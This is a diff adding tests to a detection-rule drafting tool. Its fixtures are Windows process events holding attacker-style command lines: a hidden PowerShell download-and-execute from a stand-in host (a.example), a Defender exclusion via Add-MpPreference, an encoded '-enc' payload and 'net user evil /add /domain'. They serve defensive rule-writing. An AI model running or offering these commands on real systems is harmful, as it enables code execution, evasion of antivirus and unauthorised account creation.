@@ -377,6 +377,27 @@ def differences_between_collections(folder):
     run("rules", "diff", old, folder / "nowhere", expect=4)
 
 
+@case
+def files_that_hold_no_rule_are_told(folder):
+    for name, text in (("empty.yml", b""), ("bytes.yml", b"\xff\x00\x01"), ("bad.yml", b"title: [x")):
+        (folder / name).write_bytes(text)
+        run("rules", "diff", folder / name, folder / name, expect=0 if not text else 4)
+        true((name in run.stderr) == bool(text), run.stderr)
+        found = jsonl(run("rules", "lint", folder / name, expect=1))
+        true(("refused", "error") in [(f["check"], f["severity"]) for f in found], found)
+        equal([r["status"] for r in jsonl(run("rules", "check", folder / name, expect=1))], ["refused"], name)
+        run("rules", "new", "--jsonl", folder / name, expect=4)
+        true(name in run.stderr, run.stderr)
+    (folder / "none").mkdir()
+    (folder / "e.jsonl").write_text("{}\n")
+    for name, code in (("check", 0), ("lint", 0), ("list", 0)):
+        run("rules", name, folder / "none", expect=code)
+        true("no rule file" in run.stderr, run.stderr)
+    run("rules", "profile", "--rules", folder / "none", folder / "e.jsonl", expect=2)
+    run("rules", "profile", "--rules", folder / "bad.yml", folder / "e.jsonl", expect=2)
+    true("1 rules refused" in run.stderr, run.stderr)
+
+
 def proposed(folder, event, *options):
     """Writes a rule for the event, checks and tests it; the rule's text."""
     run("rules", "new", "--out", folder / "new.yml", *options, input=json.dumps(event).encode())
@@ -424,6 +445,21 @@ def a_draft_of_windows_powershell_looks_at_its_command(folder):
     event["Data"] = ["", state % "powershell.exe", 'CommandInvocation(Add-MpPreference): "Add-MpPreference"']
     rule = run("rules", "new", input=json.dumps(event).encode()).decode()
     true("        Data|contains: 'Add-MpPreference'\n" in rule, rule)
+
+
+@case
+def a_draft_takes_the_telling_words_of_long_commands(folder):
+    event = {"Channel": "Security", "EventID": 4688, "NewProcessName": "C:\\x\\powershell.exe",
+             "CommandLine": "powershell.exe -NoP -sta -NonI -w hidden -Command \"IEX (New-Object Net.WebClient)"
+                            ".DownloadString('http://a.example/x.ps1'); Add-MpPreference -ExclusionPath C:\\\""}
+    rule = proposed(folder, event)
+    true("            - 'New-Object'\n            - 'Net.WebClient'\n            - 'DownloadString'\n"
+         "            - 'Add-MpPreference'\n" in rule, rule)
+    blob = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAu"
+    rule = run("rules", "new", input=json.dumps(dict(event, CommandLine=f"powershell -nop -enc {blob}")).encode())
+    true("            - '-nop'\n            - '-enc'\n" in rule.decode() and blob not in rule.decode(), rule)
+    rule = run("rules", "new", input=json.dumps(dict(event, CommandLine="net user evil /add /domain")).encode())
+    true("            - '/add'\n            - '/domain'\n" in rule.decode(), rule)
 
 
 @case
